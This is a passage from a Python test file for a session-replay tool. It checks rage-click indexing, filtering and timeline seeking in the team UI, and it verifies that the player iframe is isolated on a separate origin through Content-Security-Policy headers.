    with record(demo_server.url_for("index.html", variant="A", banner="none", promo="0"), store=store,
                browser=browser, viewport=(1280, 800), properties={"journey": "rage"}) as s:
        load_journey("rage")(s.page, random_module.Random(3))
    with record(demo_server.url_for("pricing.html"), store=store, browser=browser) as calm:
        calm.page.wait_for_timeout(300)
    for sid in (s.id, calm.id):
        index_session(store, sid, browser=browser)
    with ThreadServer(create_app(store)) as server:
        page = team_page(browser, viewport={"width": 1400, "height": 900})
        try:
            page.goto(server.url + "/sessions")
            assert set(listed_ids(page)) == {s.id, calm.id}
            page.get_by_label("has rage clicks").check()
            assert apply_filters(page, "rage=1") == [s.id]
            assert "rage" in page.locator(f'tr[data-session-id="{s.id}"] td.flags').inner_text()
            page.get_by_role("link", name=s.id, exact=True).click()
            page.wait_for_selector("#player[data-ready=true]")
            rage = page.locator("#timeline button[data-kind=rage]")
            assert rage.count() >= 3
            rage.first.click()
            t = rage.first.get_attribute("data-t")
            page.wait_for_function(f"() => document.getElementById('player-time').dataset.t === '{t}'")
            shot(page, "session-rage-indexed")
        finally:
            page.close()


def test_the_player_origin_is_apart_from_the_ui_when_it_can_be(ui: dict[str, Any],
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    sid, port = ui["ids"]["plain"], ui["url"].rsplit(":", 1)[1]
    local = team_get(f"{ui['url']}/sessions/{sid}")
    player = f"http://sessionheat-player.localhost:{port}"
    assert f'src="{player}/sessions/{sid}/player?t=0&amp;ui=' in local.text
    assert f"frame-src 'self' {player}" in local.headers["content-security-policy"]
    framed = team_get(f"{ui['url']}/sessions/{sid}/player", params={"ui": ui["url"]},
                       headers={"host": f"sessionheat-player.localhost:{port}"})
    assert f"frame-ancestors {ui['url']}" in framed.headers["content-security-policy"]
    # A UI reached by a name the server cannot split from: the player stays in the UI's origin.
    remote = team_get(f"{ui['url']}/sessions/{sid}", headers={"host": "tools.example"})
    assert f'src="/sessions/{sid}/player?t=0"' in remote.text
    assert "frame-src 'self';" in remote.headers["content-security-policy"]
    # Unless a second name for the same server is configured.
    monkeypatch.setenv("SESSIONHEAT_PLAYER_ORIGIN", "http://player.tools.example")
    monkeypatch.setenv("SESSIONHEAT_UI_ORIGIN", "http://tools.example")  # the UI the player accepts
    configured = team_get(f"{ui['url']}/sessions/{sid}", headers={"host": "tools.example"})
    assert f'src="http://player.tools.example/sessions/{sid}/player?t=0&amp;ui=http' in configured.text
    monkeypatch.setenv("SESSIONHEAT_PLAYER_ORIGIN", "self")
    assert f'src="/sessions/{sid}/player?t=0"' in team_get(f"{ui['url']}/sessions/{sid}").text
